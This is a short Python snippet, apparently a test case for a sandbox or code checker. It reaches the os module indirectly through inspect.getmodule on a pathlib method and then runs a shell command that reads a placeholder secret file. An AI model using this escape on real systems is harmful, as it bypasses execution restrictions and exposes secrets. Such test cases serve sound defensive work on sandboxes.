# inspect.getmodule returns the module of any object, real and whole.
# effect: run
import inspect
import pathlib
inspect.getmodule(pathlib.Path.stat).os.system("cat @SECRET@")
